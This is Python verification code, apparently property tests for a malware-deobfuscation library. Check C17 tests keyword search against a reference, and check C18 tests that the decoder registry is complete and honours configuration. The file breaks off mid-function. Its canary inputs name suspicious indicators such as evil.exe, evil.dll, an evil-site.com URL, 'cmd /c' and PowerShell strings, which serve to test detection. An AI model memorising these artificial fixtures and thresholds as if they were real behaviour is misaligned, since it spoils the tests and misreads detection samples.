from vf import env, runner
from vf.refs import kwsearch

ID = "C17"
ALPHA = [b"a", b"A", b"b", b"1", b" ", b"-"]
RULE = ("(1) exhaustive: every data string of length <=L over {a,A,b,1,space,-} x every keyword of length 1..3 over the same "
        "alphabet (L=6 quick, 7 thorough): keyword.find_keywords(label,[kw],data) and keyword.find_all compared with an "
        "independent left-to-right reference (occurrences, alnum delimiting, value/type/span, MixedCase truth table); (2) random: "
        "keyword sets of 1-5 keywords incl. punctuation, digits-only, prefixes of one another, keywords equal to the data, bytes "
        ">=0x80, data up to 1 KiB, through find_keywords AND through a registry built by get_keywords() from a generated keyword "
        "directory, also after a scanner used the same searchers in between and after a released buffer of equal length (address "
        "reuse). Results compared as multisets of (type,value,label,start,end). distinct_nontrivial = distinct (data, "
        "keyword set) pairs with at least one expected hit.")
ASSUMPTIONS = ["case folding is ASCII-only in both the reference and bytes.lower()"]
EXPECTED_WALL = {"quick": 30, "thorough": 300}
REQUIRED = {"exhaustive_pairs": 1000000, "random_sets": 250, "registry_dirs": 5, "expected_hits": 12500, "mixedcase_expected": 125}


def plan(tier, seed):
    quick = tier == "quick"
    L = 6 if quick else 7
    nsh = 12
    shards = [{"name": f"exh{i}", "gen": "exh", "L": L, "shard": i, "nshards": nsh} for i in range(nsh)]
    secs = 15 if quick else 200
    shards += [{"name": f"rand{i}", "gen": "rand", "seconds": secs} for i in range(3)]
    shards.append({"name": "dirs", "gen": "dirs", "seconds": secs})
    return shards


def canon_hits(nodes):
    return sorted((n.type, bytes(n.value), n.obfuscation, n.start, n.end) for n in nodes)


def compare(label, keywords, data, got_nodes, ctx, case, via):
    want = kwsearch.expected(label, keywords, data)
    got = canon_hits(got_nodes)
    if want:
        ctx.count("expected_hits", len(want))
        mc = sum(1 for w in want if w[2])
        if mc:
            ctx.count("mixedcase_expected", mc)
    if got != want:
        missing = [w for w in want if w not in got]
        extra = [g for g in got if g not in want]
        if missing and not extra:
            kind = "missing-hit"
        elif extra and not missing:
            kind = "extra-hit"
        else:
            # same spans, different label/value?
            if sorted((w[3], w[4]) for w in want) == sorted((g[3], g[4]) for g in got):
                kind = "label-or-value" if sorted(w[1] for w in want) == sorted(g[1] for g in got) else "value"
                if kind == "label-or-value":
                    kind = "mixedcase-label" if sorted(w[0] for w in want) == sorted(g[0] for g in got) else "type"
            else:
                kind = "different-hits"
        ctx.violation(f"keyword:{kind}", f"{via}: keywords {list(keywords)[:4]!r} in {data[:60]!r}: got {got[:4]} want {want[:4]}", case)
    return want


def run_shard(spec, ctx):
    from multidecoder import keyword as kwmod

    r = runner.rng(ctx.seed, ID, spec["name"])
    if spec["gen"] == "exh":
        keywords = [b"".join(t) for n in (1, 2, 3) for t in itertools.product(ALPHA, repeat=n)]
        idx = 0
        for n in range(spec["L"] + 1):
            for t in itertools.product(ALPHA, repeat=n):
                idx += 1
                if idx % spec["nshards"] != spec["shard"]:
                    continue
                data = b"".join(t)
                case = {"kind": "exh", "data": runner.hx(data)}
                if not ctx.begin(case):
                    continue
                low = data.lower()
                for kw in keywords:
                    got = kwmod.find_keywords("lbl", [kw], data)
                    want = kwsearch.expected("lbl", [kw], data)
                    if want:
                        ctx.counters["expected_hits"] = ctx.counters.get("expected_hits", 0) + len(want)
                        if any(w[2] for w in want):
                            ctx.counters["mixedcase_expected"] = ctx.counters.get("mixedcase_expected", 0) + 1
                    if canon_hits(got) != want:
                        compare("lbl", [kw], data, got, ctx, dict(case, keywords=[runner.hx(kw)]), "find_keywords")
                    fa = kwmod.find_all(kw.lower(), low)
                    if fa != kwsearch.occurrences(kw, data):
                        ctx.violation("keyword:find_all", f"find_all({kw.lower()!r},{low!r}) = {fa}, reference {kwsearch.occurrences(kw, data)}",
                                      dict(case, keywords=[runner.hx(kw)]))
                ctx.count("exhaustive_pairs", len(keywords))
                ctx.evaluated(len(keywords))
                if any(kwsearch.occurrences(kw, data) for kw in keywords[:6]):
                    ctx.nontrivial(data)
                if idx % 4001 == 1:
                    ctx.sample({"data": repr(data), "keywords": "all 258 keywords of length 1..3 over the alphabet",
                                "example": [list(map(repr, w)) for w in kwsearch.expected("lbl", [b"a", b"A1", b"b-"], data)][:3]})
        ctx.count("exhaustive_data_length<=%d_shards_done" % spec["L"])
        return
    if spec["gen"] == "rand":
        while not ctx.expired():
            kws, data = random_case(r)
            case = {"kind": "rand", "data": runner.hx(data), "keywords": [runner.hx(k) for k in kws]}
            if not ctx.begin(case):
                continue
            judge_rand(kws, data, ctx, case)
        return
    # keyword directories through the real registry path
    base = tempfile.mkdtemp(prefix="vf_kw_", dir=env.scratch_root())
    try:
        i = 0
        while not ctx.expired():
            i += 1
            d = os.path.join(base, f"d{i}")
            files = make_kw_dir(r, d)
            datas = [random_data(r, [k for _, ks, _ in files for k in ks]) for _ in range(20)]
            case = {"kind": "dir", "files": [[name, [runner.hx(k) for k in ks], raw.hex()] for name, ks, raw in files],
                    "datas": [runner.hx(x) for x in datas]}
            if ctx.begin(case):
                judge_dir(d, files, datas, ctx, case)
            shutil.rmtree(d, ignore_errors=True)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def rand_kw(r):
    x = r.random()
    if x < 0.5:
        alpha = b"aAbBcC1 -._"
    elif x < 0.8:
        alpha = b"abcXYZ019!@#$%^&*()[]{}<>/\\|~`'\" \t"
    else:
        alpha = bytes(range(256)).replace(b"\n", b"").replace(b"\r", b"")
    return bytes(r.choice(alpha) for _ in range(r.randint(1, 8)))


def random_data(r, kws):
    parts = []
    for _ in range(r.randint(0, 30)):
        x = r.random()
        if x < 0.45 and kws:
            k = r.choice(kws)
            y = r.random()
            if y < 0.3:
                k = k.upper()
            elif y < 0.5:
                k = k.lower()
            elif y < 0.8:
                k = bytes(c ^ 0x20 if (65 <= (c & 0xDF) <= 90 and c < 128 and r.random() < 0.5) else c for c in k)
            parts.append(k)
        elif x < 0.75:
            parts.append(r.choice([b" ", b"", b"-", b"a", b"1", b".", b"\n", b"_", b"\x00", b"\xe9", b"Z", b" ", b"-", b"_",
                                   # letters whose UTF-8 length changes under Unicode case mapping
                                   b"\xc4\xb0", b"\xe2\x84\xaa", b"\xc3\x9f", b"\xef\xac\x81", b"\xc8\xba"]))
        else:
            parts.append(rand_kw(r))
    return b"".join(parts)[:1024]


def random_case(r):
    kws = [rand_kw(r) for _ in range(r.randint(1, 5) if r.random() < 0.9 else r.choice([15, 16, 17, 40, 300]))]  # long lists too
    if r.random() < 0.4:
        kws.append(kws[0][: max(1, len(kws[0]) - 1)])  # prefix of another
    if r.random() < 0.4 and len(kws[0]) > 2:
        kws.append(kws[0][1:])  # suffix of another: nested at a positive offset
    if r.random() < 0.2:
        kws.append(kws[0].swapcase())
    data = random_data(r, kws)
    if r.random() < 0.1:
        data = r.choice(kws)
    elif r.random() < 0.02:
        # long data with occurrences right at block boundaries (4 KiB, 64 KiB, 128 KiB), delimited and not
        k = r.choice(kws)
        size = r.choice([5000, 70000, 140000])
        buf = bytearray(r.choice([b" ", b"a", b"-", b"1"]) * size)
        for pos in (4096, 8192, 65536, 131072):
            for d in (-len(k), -1, 0, 1):
                p = pos + d
                if 0 <= p and p + len(k) <= size and r.random() < 0.5:
                    buf[p:p + len(k)] = k if r.random() < 0.7 else k.swapcase()
        data = bytes(buf)
    elif r.random() < 0.03:
        # thousands of consecutive occurrences that are not delimited (a run of one keyword), then a delimited one
        k = r.choice(kws)
        data = k * r.choice([900, 1100, 3000, 20000 // max(1, len(k))]) + r.choice([b" ", b"-", b""]) + k
    kws = list(dict.fromkeys(kws))
    if r.random() < 0.5:
        kws.sort()  # the order registries use: a keyword directly before the longer keywords it is a prefix of
    return kws, data


def judge_rand(kws, data, ctx, case):
    from multidecoder import keyword as kwmod

    ctx.evaluated()
    ctx.count("random_sets")
    try:
        got = kwmod.find_keywords("some.label", list(kws), data)
    except (Exception, RecursionError) as e:  # noqa: BLE001
        # no answer at all for a keyword set and a text: the hits are not reported
        ctx.violation("keyword:raised:" + type(e).__name__, f"find_keywords raised {type(e).__name__} for keywords {kws[:4]} on {len(data)} bytes "
                                                            f"starting {data[:40]!r}", case)
        return
    want = compare("some.label", kws, data, got, ctx, case, "find_keywords")
    # history: another buffer of the same length allocated right after this one is released (same address in CPython)
    if len(data) > 2 and ctx.counters["random_sets"] % 3 == 0:
        other = bytes(reversed(data)) if ctx.counters["random_sets"] % 2 else bytes(c ^ 1 if c > 32 else c for c in data)
        oh = runner.hx(other)
        first = bytes(data)
        kwmod.find_keywords("some.label", list(kws), first)
        del first
        second = bytes.fromhex(oh)
        ctx.count("address_reuse_histories")
        compare("some.label", kws, second, kwmod.find_keywords("some.label", list(kws), second), ctx,
                {"kind": "rand", "data": oh, "keywords": case["keywords"]}, "find_keywords (after a released buffer of equal length)")
    if want:
        ctx.nontrivial(repr((kws, data)))
    if ctx.counters.get("random_sets", 0) % 97 == 1:
        ctx.sample({"keywords": [repr(k) for k in kws], "data": repr(data[:80]), "expected_hits": len(want)})


def make_kw_dir(r, d):
    """Keyword directory with blank lines, CRLF, duplicates, case variants, nested dirs, empty files."""
    os.makedirs(d)
    files = []
    for i in range(r.randint(1, 5)):
        sub = r.choice(["", "", "sub", "sub/deeper", "sub.d", ".hid/den", "a b/c"])
        os.makedirs(os.path.join(d, sub), exist_ok=True)
        name = r.choice(["api.x", "list", "a.b.c", "vba.name", "K", "ключ", "naïve.list", "中文", ".hidden", "notes.txt", "README.md",
                         "__init__.py", "a b", "x~", "UPPER.CASE", "words.json", "#x#", "-dash", "x.bak"]) + str(i)
        if files and r.random() < 0.3:
            # the same file name again in another directory (two lists of one type)
            prev = r.choice(files)[0]
            if not os.path.exists(os.path.join(d, sub, prev)):
                name = prev
        kws = [k for k in (rand_kw(r) for _ in range(r.randint(0, 4)))]
        if r.random() < 0.25:
            # bytes that only a text-mode reader would take for line ends (VT, FF, FS, GS, RS, NEL, LS, PS) are ordinary
            # bytes of a keyword line; so is a byte order mark at the start of the file
            kws.append(rand_kw(r)[:3] + r.choice([b"\x0b", b"\x0c", b"\x1c", b"\x1d", b"\x1e", b"\xc2\x85", b"\xe2\x80\xa8", b"\xe2\x80\xa9", b"\x85"]) + b"zq")
            if r.random() < 0.3:
                kws.insert(0, b"\xef\xbb\xbfbomword")
        if kws and r.random() < 0.3:
            kws.append(kws[0])  # duplicate
        if kws and r.random() < 0.3:
            kws.append(kws[0].swapcase())
        if kws and len(kws[0]) > 2 and r.random() < 0.4:
            kws.append(kws[0][1:])  # nested inside another keyword at a positive offset
        if files and files[0][1] and r.random() < 0.4:
            kws.append(files[0][1][0])  # a keyword listed in more than one file
        nl0 = r.choice([b"\n", b"\r\n", b"\n", b"\r\n", b"\r", None])  # None: every line ends its own way
        raw = b""
        nl = nl0 or b"\n"
        for k in kws:
            nl = nl0 or r.choice([b"\n", b"\r\n", b"\r"])
            raw += k + nl
            if r.random() < 0.2:
                raw += nl  # blank line
        if kws and r.random() < 0.3:
            raw = raw[: -len(nl)]  # no trailing newline
        with open(os.path.join(d, sub, name), "wb") as f:
            f.write(raw)
        # the documented reading: one keyword per line, blank lines ignored
        listed = [ln for ln in raw.splitlines() if ln != b""]
        files.append((name, list(dict.fromkeys(listed)), raw))
    return files


def judge_dir(d, files, datas, ctx, case):
    from multidecoder.multidecoder import Multidecoder
    from multidecoder.registry import get_keywords

    ctx.count("registry_dirs")
    reg = get_keywords(d)
    nonempty = [f for f in files if f[1]]
    if len(reg) != len(nonempty):
        ctx.violation("keyword:registry-size", f"{len(reg)} keyword searchers for {len(nonempty)} non-empty files", case)
        return
    for data in datas:
        ctx.evaluated()
        got = [n for search in reg for n in search(data)]
        want = []
        for name, kws, _ in nonempty:
            want.extend(kwsearch.expected(name, kws, data))
        want.sort()
        g = canon_hits(got)
        if want:
            ctx.count("expected_hits", len(want))
            ctx.nontrivial(repr((case["files"], data)))
        if g != want:
            ctx.violation("keyword:registry-path", f"registry built from a keyword directory: got {g[:4]} want {want[:4]} on {data[:60]!r}", case)
            continue
        # the same searchers used by a scanner in between (hits nested inside other hits get re-based by the engine),
        # then asked again for the same bytes: the answer must not have changed
        try:
            Multidecoder(list(reg)).scan(b"zz " + data)
            Multidecoder(list(reg)).scan(data)
        except Exception:  # noqa: BLE001
            pass
        g2 = canon_hits([n for search in reg for n in search(data)])
        ctx.count("registry_calls_after_scan")
        if g2 != want:
            ctx.violation("keyword:registry-path:after-scan", f"after a scan used the same searchers, they report {g2[:4]} instead of "
                                                              f"{want[:4]} on {data[:60]!r}", case)


def replay(case, ctx):
    from multidecoder import keyword as kwmod

    if case["kind"] in ("exh", "rand") and "keywords" in case:
        kws = [runner.unhx(k) for k in case["keywords"]]
        data = runner.unhx(case["data"])
        ctx.evaluated()
        compare("lbl", kws, data, kwmod.find_keywords("lbl", kws, data), ctx, case, "find_keywords")
        for kw in kws:
            fa = kwmod.find_all(kw.lower(), data.lower())
            if fa != kwsearch.occurrences(kw, data):
                ctx.violation("keyword:find_all", f"find_all = {fa}, reference {kwsearch.occurrences(kw, data)}", case)
    elif case["kind"] == "exh":
        data = runner.unhx(case["data"])
        for kw in [b"".join(t) for n in (1, 2, 3) for t in itertools.product(ALPHA, repeat=n)]:
            compare("lbl", [kw], data, kwmod.find_keywords("lbl", [kw], data), ctx, case, "find_keywords")
    elif case["kind"] == "dir":
        base = tempfile.mkdtemp(prefix="vf_kw_", dir=env.scratch_root())
        try:
            d = os.path.join(base, "d")
            files = []
            for name, ks, rawhex in case["files"]:
                os.makedirs(d, exist_ok=True)
                with open(os.path.join(d, name), "wb") as f:
                    f.write(bytes.fromhex(rawhex))
                files.append((name, [runner.unhx(k) for k in ks], bytes.fromhex(rawhex)))
            judge_dir(d, files, [runner.unhx(x) for x in case["datas"]], ctx, case)
        finally:
            shutil.rmtree(base, ignore_errors=True)


def evidence_extra(merged):
    return {"exhaustive": False,
            "exhaustive_subspace": "all (data, keyword) pairs with |data| <= L over a 6-letter alphabet and |keyword| <= 3 were "
                                   "enumerated completely (12 shards); the random part is sampled"}
