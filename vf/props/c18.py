"""C18 - the registry contains every shipped decoder and honours configuration."""

from __future__ import annotations

import ast
import itertools
import json
import os
import pathlib
import shutil
import tempfile

from vf import env, runner, taps
from vf.gens import pe as pegen
from vf.props import c17 as kwgen

ID = "C18"
RULE = ("(a) default registry, keyword side: the shipped keyword directory is walked independently (pathlib.rglob); the multiset of "
        "keyword-searcher labels must equal the names of the non-empty files, and every searcher, called on a probe made of its "
        "file's lines, must report exactly that file's non-blank lines with type == file name; (b) decoder side: the registry's "
        "function set must equal the functions marked @decoder in the AST of the decoder modules AND contain each of the 30 "
        "decoders of the pinned commit that still exists; a behavioural canary per decoder (an input only it can turn into its "
        "node) is scanned with Multidecoder(); (c) include/exclude: all singletons, pairs, complements, include x exclude "
        "singleton pairs, random subset pairs incl. unknown names and generator arguments - expected = decoders of (included "
        "existing modules, or all when no include list) minus excluded; (d) custom keyword directories (empty files, blank "
        "lines, CRLF, nested dirs, duplicate words, equal file names in different sub-directories): registry == one searcher "
        "per non-empty file + all analyzers, shipped keywords absent; (e) histories of build_registry calls in one process (every "
        "result must be what its own arguments ask for). Names are passed as eight kinds of iterable (list, tuple, set, frozenset, generator, iterator, dict keys, map) through both entry points; keyword files also use CR-only and mixed line ends, dot-file / extension / spaced names. "
        "distinct_nontrivial = distinct configurations judged.")
ASSUMPTIONS = ["an empty include list is not asserted either way (the statement says 'if no include list')",
               "file lines are taken with bytes.splitlines(), as the documentation of the keyword files implies one word per line"]
EXPECTED_WALL = {"quick": 30, "thorough": 200}
REQUIRED = {"keyword_files_probed": 100, "canaries": 30, "include_exclude_configs": 62, "custom_dirs": 6, "dirs_with_equal_names": 5, "build_sequence_steps": 12}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 12 if quick else 150
    shards = [{"name": "default", "gen": "default"}, {"name": "canaries", "gen": "canaries"},
              {"name": "inex-systematic", "gen": "inex-sys"}]
    shards += [{"name": f"inex-rand{i}", "gen": "inex-rand", "seconds": secs} for i in range(3)]
    shards += [{"name": f"build-seq{i}", "gen": "build-seq", "seconds": secs} for i in range(2)]
    shards += [{"name": f"dirs{i}", "gen": "dirs", "seconds": secs} for i in range(4)]
    return shards


def ast_decoders():
    """{module name: [function names marked @decoder]} from the source text."""
    d = os.path.join(env.REPO_SRC, "multidecoder", "decoders")
    out = {}
    for fn in sorted(os.listdir(d)):
        if not fn.endswith(".py") or fn == "__init__.py":
            continue
        with open(os.path.join(d, fn), "rb") as f:
            mod = ast.parse(f.read())
        names = []
        for n in mod.body:
            if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef)):
                for dec in n.decorator_list:
                    nm = dec.id if isinstance(dec, ast.Name) else (dec.attr if isinstance(dec, ast.Attribute) else None)
                    if nm == "decoder":
                        names.append(n.name)
        out[fn[:-3]] = names
    return out


def all_functions():
    """{module: set of top-level function names} (to know whether a baseline decoder still exists)."""
    d = os.path.join(env.REPO_SRC, "multidecoder", "decoders")
    out = {}
    for fn in sorted(os.listdir(d)):
        if fn.endswith(".py") and fn != "__init__.py":
            with open(os.path.join(d, fn), "rb") as f:
                mod = ast.parse(f.read())
            out[fn[:-3]] = {n.name for n in mod.body if isinstance(n, ast.FunctionDef)}
    return out


def fn_id(f):
    return (getattr(f, "__module__", "?").rsplit(".", 1)[-1], getattr(f, "__name__", "?"))


SHAPES = ["list", "tuple", "set", "frozenset", "generator", "iterator", "dict-keys", "map"]


def shaped(names, shape):
    """The same names as another kind of iterable (one-shot ones included)."""
    if names is None:
        return None
    if shape == "tuple":
        return tuple(names)
    if shape == "set":
        return set(names)
    if shape == "frozenset":
        return frozenset(names)
    if shape == "generator":
        return (x for x in names)
    if shape == "iterator":
        return iter(list(names))
    if shape == "dict-keys":
        return dict.fromkeys(names).keys()
    if shape == "map":
        return map(str, names)
    return list(names)


def split_registry(reg):
    kws = [f for f in reg if taps.decoder_name(f).startswith("kw:")]
    ans = [f for f in reg if not taps.decoder_name(f).startswith("kw:")]
    return kws, ans


def check_keyword_side(reg_kws, directory, ctx, case, report):
    files = []
    for p in sorted(pathlib.Path(directory).rglob("*")):
        if p.is_file():
            lines = [ln for ln in p.read_bytes().splitlines() if ln != b""]
            if lines:
                files.append((p.name, list(dict.fromkeys(lines))))
    got_names = sorted(taps.decoder_name(f)[3:] for f in reg_kws)
    want_names = sorted(n for n, _ in files)
    if got_names != want_names:
        missing = [n for n in want_names if n not in got_names]
        extra = [n for n in got_names if n not in want_names]
        kind = "missing" if len(got_names) < len(want_names) else ("extra" if len(got_names) > len(want_names) else "different")
        report(f"registry:keyword-searchers:{kind}", f"{len(got_names)} keyword searchers for {len(want_names)} non-empty keyword files "
                                                     f"(missing {missing[:3]}, unexpected {extra[:3]})")
        return
    by_name = {}
    for f in reg_kws:
        by_name.setdefault(taps.decoder_name(f)[3:], []).append(f)
    # files with equal names: the union of what the equally named searchers report must be the union of the files
    want_by_name = {}
    for n, words in files:
        want_by_name.setdefault(n, []).append(words)
    for n, word_lists in want_by_name.items():
        for words in word_lists:
            probe = b"\n".join(words)
            seen = set()
            for f in by_name[n]:
                for h in f(probe):
                    if h.type != n:
                        report("registry:keyword-type", f"searcher for file {n!r} reports type {h.type!r}")
                        return
                    seen.add(bytes(h.value))
            ctx.count("keyword_files_probed")
            missing = [w for w in words if w not in seen]
            if missing:
                report("registry:keyword-missing", f"keyword file {n!r}: listed keyword(s) {missing[:3]!r} are not found by its searcher")
                return
        allowed = set(w for words in word_lists for w in words)
        for f in by_name[n]:
            extra = [k for k in (f.args[1] if hasattr(f, "args") and len(f.args) > 1 else []) if bytes(k) not in allowed]
            if extra:
                report("registry:keyword-extra", f"searcher for file {n!r} holds keyword(s) not listed in the file: {extra[:3]!r}")
                return


def check_analyzers(ans, want_ids, report, what):
    got = sorted(fn_id(f) for f in ans)
    want = sorted(want_ids)
    if got != want:
        missing = [w for w in want if w not in got]
        extra = [g for g in got if g not in want]
        dup = len(got) != len(set(got))
        kind = "missing" if missing and not extra else ("extra" if extra and not missing else ("duplicate" if dup else "different"))
        report(f"registry:analyzers:{kind}", f"{what}: missing {missing[:4]} unexpected {extra[:4]}")
        return False
    return True


def canaries():
    img, _ = pegen.build_pe(((0x200, 0x200),))
    nums = b",".join(b"%d" % (i % 251) for i in range(520))
    return [
        ("find_atob", b'x atob("aGVsbG8gd29ybGQ=") y', ("javascript.string", "encoding.base64", b"hello world")),
        ("find_base64", b"x aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= y", ("", "encoding.base64", b"hello world hello world")),
        ("find_Base64Decode", b'Base64Decode("aGVsbG8gd29ybGQ=")', ("vba.string", "encoding.base64", b"hello world")),
        ("find_FromBase64String", b"FromBase64String('aGVsbG8gd29ybGQ=')", ("powershell.bytes", "encoding.base64", b"hello world")),
        ("find_chr", b"x chr(65) y", ("string", "function.chr", b"A")),
        ("find_utf16", b"x h\x00e\x00l\x00l\x00o\x00w\x00o\x00r\x00 y", ("", "codec.uft-16", b"hellowor")),
        ("find_concat", b'x "ab" + "cd" y', ("string", "concatenation", b"abcd")),
        ("find_executable_name", b"run evil.exe now", ("executable.filename", "", b"evil.exe")),
        ("find_library", b"load evil.dll now", ("executable.filename", "", b"evil.dll")),
        ("find_hex", b"x 68656c6c6f20776f726c6421 y", ("", "decoded.hexadecimal", b"hello world!")),
        ("find_FromHexString", b"FromHexString('68656c6c6f20776f726c6421')", ("powershell.bytes", "encoding.hexidecimal", b"hello world!")),
        ("find_unescape", b"unescape('%68%69')", ("string", "function.unescape", b"hi")),
        ("find_domains", b"see evil-site.com ok", ("network.domain", "", b"evil-site.com")),
        ("find_emails", b"mail joe@evil-site.com ok", ("network.email", "", b"joe@evil-site.com")),
        ("find_ips", b"ip 93.184.216.34 ok", ("network.ip", "", b"93.184.216.34")),
        ("find_urls", b"get http://evil-site.com/x ok", ("network.url", "", b"http://evil-site.com/x")),
        ("find_path", b"run /usr/bin/env ok", ("path", "", b"/usr/bin/env")),
        ("find_windows_path", b"open C:\\Windows\\notes.txt ok", ("windows.path", "", b"C:\\Windows\\notes.txt")),
        ("find_pe_files", b"xx" + img, ("pe_file", "", img)),
        ("find_powershell_bytes", b"$b = " + nums + b";", ("powershell.bytes", "", bytes(i % 251 for i in range(520)))),
        ("find_replace", b'x "abc".replace("b","x") y', ("string", "replace", b"axc")),
        ("find_powershell_replace", b"x 'abc' -replace 'b','x' y", ("powershell.string", "replace", b"axc")),
        ("find_vba_replace", b'x Replace("abc","b","x") y', ("vba.string", "vba.replace", b"axc")),
        ("find_js_regex_replace", b'x "abc".replace(/b/g,"x") y', ("javascript.string", "replace", b"axc")),
        ("find_reverse", b'x reverse("cba") y', ("string", "reverse", b"abc")),
        ("find_cmd_strings", b"cmd /c dir", ("shell.cmd", "", b"cmd /c dir")),
        ("find_powershell_strings", b"powershell -foo", ("shell.powershell", "", b"powershell -foo")),
        ("find_createobject", b'x = CreateObject("a.b")', ("vba.function.createobject", "", b'CreateObject("a.b")')),
        ("find_strreverse", b'x StrReverse("cba") y', ("vba.string", "vba.reverse", b"abc")),
        ("find_xml_hex", b"x &#65;&#66;&#67;&#68;&#69; y", ("", "unescape.xml", b"ABCDE")),
    ]


def run_shard(spec, ctx):
    import multidecoder
    from multidecoder import registry as regmod
    from multidecoder.multidecoder import Multidecoder

    r = runner.rng(ctx.seed, ID, spec["name"])
    gen = spec["gen"]
    astmap = ast_decoders()
    all_ids = [(m, f) for m, fs in astmap.items() for f in fs]
    with open(os.path.join(env.VERIF_DIR, "baseline_decoders.json")) as f:
        baseline = [tuple(x) for x in json.load(f)]
    existing = all_functions()

    def reporter(case):
        def report(key, msg):
            ctx.violation(key, msg, case)
        return report

    if gen == "default":
        case = {"kind": "default"}
        ctx.begin(case)
        ctx.evaluated()
        report = reporter(case)
        for maker, what in ((lambda: regmod.build_registry(), "build_registry()"), (lambda: Multidecoder().decoders, "Multidecoder().decoders")):
            reg = maker()
            kws, ans = split_registry(reg)
            kwdir = os.path.join(os.path.dirname(multidecoder.__file__), "keywords")
            check_keyword_side(kws, kwdir, ctx, case, report)
            check_analyzers(ans, all_ids, report, what)
            got = {fn_id(f) for f in ans}
            for m, fn in baseline:
                if fn in existing.get(m, ()) and (m, fn) not in got:
                    report("registry:baseline-decoder-dropped", f"{what}: decoder {m}.{fn} of the pinned commit still exists but is not registered")
            ctx.count("default_registry_entries", len(reg))
            ctx.nontrivial(what)
        ctx.sample({"default_registry": {"keyword_searchers": len(kws), "analyzers": len(ans)}})
        return
    if gen == "canaries":
        md = Multidecoder()
        for name, data, (t, o, v) in canaries():
            case = {"kind": "canary", "decoder": name, "data": runner.hx(data)}
            if not ctx.begin(case):
                continue
            ctx.evaluated()
            ctx.count("canaries")
            root = md.scan(data)
            if not any(n.type == t and n.obfuscation == o and bytes(n.value) == v for n in root):
                ctx.violation("registry:canary:" + name, f"the default scanner does not report the {name} result ({t!r},{o!r}) on {data[:60]!r}", case)
            ctx.nontrivial(name)
        ctx.sample({"canary": "find_xml_hex", "input": repr(b"x &#65;&#66;&#67;&#68;&#69; y")})
        return
    mods = sorted(astmap)
    if gen in ("inex-sys", "inex-rand"):
        def judge(include, exclude, as_gen=False, shape=None, via="get_analyzers"):
            shape = shape or ("generator" if as_gen else "list")
            case = {"kind": "inex", "include": include, "exclude": exclude, "shape": shape, "via": via}
            if not ctx.begin(case):
                return
            ctx.evaluated()
            ctx.count("include_exclude_configs")
            ctx.count("argument_shape:" + shape)
            inc_arg, exc_arg = shaped(include, shape), shaped(exclude, shape)
            if include is not None and len(include) == 0:
                ctx.count("empty_include_list(not asserted)")
                return
            if via == "build_registry":
                _, ans = split_registry(regmod.build_registry(include=inc_arg, exclude=exc_arg))
            else:
                ans = regmod.get_analyzers(include=inc_arg, exclude=exc_arg)
            sel = [m for m in mods if (include is None or m in include) and not (exclude and m in exclude)]
            want = [(m, f) for m in sel for f in astmap[m]]
            check_analyzers(ans, want, reporter(case), f"{via}(include={include}, exclude={exclude}) passed as {shape}")
            ctx.nontrivial(repr((include, exclude, as_gen)))
            if ctx.counters["include_exclude_configs"] % 101 == 1:
                ctx.sample({"include": include, "exclude": exclude, "expected_decoders": len(want)})
        if gen == "inex-sys":
            for m in mods:
                judge([m], None)
                judge(None, [m])
                judge([x for x in mods if x != m], None)
            for a, b in itertools.combinations(mods, 2):
                judge([a, b], None)
                judge(None, [a, b])
            for a in mods:
                for b in mods:
                    judge([a], [b])
            judge(None, None)
            judge(mods, [])
            judge(None, mods)
            judge(["nosuchmodule"], None)
            judge(None, ["nosuchmodule"])
            judge(["shell", "nosuchmodule"], ["ell", "power"])
            # the parameters are documented as iterables of names: every shape of iterable, through both entry points
            # the documented default of the directory parameter, passed explicitly, still means the shipped keywords
            for kw in ({"directory": ""}, {"directory": "", "include": ["shell"]}, {}):
                case3 = {"kind": "default-explicit", "kwargs": {k: v for k, v in kw.items()}}
                if ctx.begin(case3):
                    ctx.evaluated()
                    ctx.count("default_directory_passed_explicitly")
                    kws3, _ = split_registry(regmod.build_registry(**kw))
                    n_files = sum(1 for p in pathlib.Path(os.path.join(os.path.dirname(multidecoder.__file__), "keywords")).rglob("*")
                                  if p.is_file() and any(ln for ln in p.read_bytes().splitlines()))
                    if len(kws3) != n_files:
                        reporter(case3)("registry:keyword-searchers:default-directory", f"build_registry({kw}) has {len(kws3)} keyword searchers, {n_files} non-empty shipped files")
                    if "directory" in kw and "include" not in kw:
                        k4 = regmod.get_keywords("")
                        if len(k4) != n_files:
                            reporter(case3)("registry:keyword-searchers:default-directory", f"get_keywords('') has {len(k4)} keyword searchers, {n_files} non-empty shipped files")
            for shape in SHAPES:
                for via in ("get_analyzers", "build_registry"):
                    judge([mods[0], mods[3]], None, shape=shape, via=via)
                    judge(None, [mods[1], mods[2]], shape=shape, via=via)
                    judge(mods[:5], [mods[1], mods[7]], shape=shape, via=via)
            # through build_registry as well, incl. include lists lying entirely inside the exclude list
            for inc, exc in [([m], [m]) for m in mods] + [(mods[:2], mods[:3]), (mods[:3], mods[:2]), ([mods[0]], mods), (mods, [mods[0]])]:
                case2 = {"kind": "inex", "include": inc, "exclude": exc, "via": "build_registry"}
                if not ctx.begin(case2):
                    continue
                ctx.evaluated()
                ctx.count("include_exclude_configs")
                _, ans2 = split_registry(regmod.build_registry(include=list(inc), exclude=list(exc)))
                sel2 = [m for m in mods if m in inc and m not in exc]
                check_analyzers(ans2, [(m, f) for m in sel2 for f in astmap[m]], reporter(case2), f"build_registry(include={inc}, exclude={exc})")
            reg = regmod.build_registry(include=["shell"], exclude=None)
            _, ans = split_registry(reg)
            check_analyzers(ans, [("shell", f) for f in astmap["shell"]], reporter({"kind": "inex", "include": ["shell"], "exclude": None}),
                            "build_registry(include=['shell'])")
            return
        while not ctx.expired():
            pool = mods + ["nosuch", "shel", "powershell.py", "decoders.shell", "SHELL"]
            inc = None if r.random() < 0.35 else r.sample(pool, r.randint(1, 8))
            exc = None if r.random() < 0.35 else r.sample(pool, r.randint(0, 8))
            judge(inc, exc, shape=r.choice(SHAPES), via=r.choice(["get_analyzers", "get_analyzers", "build_registry"]))
        return
    if gen == "build-seq":
        # histories of build_registry calls in ONE process (default keyword directory): every result must be exactly
        # what its own arguments ask for, whatever was built before
        kwdir = os.path.join(os.path.dirname(multidecoder.__file__), "keywords")
        n_files = sum(1 for p in pathlib.Path(kwdir).rglob("*") if p.is_file() and any(ln for ln in p.read_bytes().splitlines()))
        step = 0
        while not ctx.expired():
            step += 1
            x = r.random()
            inc = None if x < 0.4 else r.sample(mods, r.randint(1, 6))
            exc = None if r.random() < 0.5 else r.sample(mods, r.randint(1, 6))
            case = {"kind": "build-seq", "step": step, "include": inc, "exclude": exc}
            if not ctx.begin(case):
